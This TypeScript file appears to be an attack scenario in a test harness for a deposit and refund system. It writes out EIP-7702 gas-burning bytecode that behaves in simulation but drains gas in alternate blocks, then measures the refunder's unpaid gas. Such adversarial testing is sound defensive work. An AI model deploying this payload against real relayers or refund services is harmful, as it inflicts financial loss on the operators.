import type { Hex } from 'viem';
import { parseEther } from 'viem';
import type { Attack } from '../attack.ts';
import { readUnpaidGas } from '../measure/readUnpaidGas.ts';
import { createAttacker } from '../world/attacker.ts';

// Accepts native tokens in blocks with an even number, and burns all gas in the others: if (block.number % 2 == 0) return; loop.
export const BURNER: Hex = '0x6001431615600c575b6008565b00';
const DEPOSITS = 5;

/** The account of the depositor gets its code after the deposit, as an account can by EIP-7702. */
export const gasBurner: Attack = {
  name: 'gas-burner',
  title: 'Gas burner: refunds to a contract that behaves in simulation and burns gas in a block',
  prepare: async (world) => {
    const attacker = await createAttacker(world);
    const [{ chain }] = world.sides;
    return async () => {
      const from = await chain.client.getBlockNumber();
      for (const hash of await attacker.depositAtOnce(DEPOSITS, { amount: parseEther('0.002'), target: 'nowhere' })) {
        await chain.client.waitForTransactionReceipt({ hash });
      }
      await chain.client.setCode({ address: attacker.account, bytecode: BURNER });
      return { stop: async () => {}, readDamage: () => readUnpaidGas(world, { depositor: attacker.account, from }) };
    };
  },
  afterMs: 20_000,
};
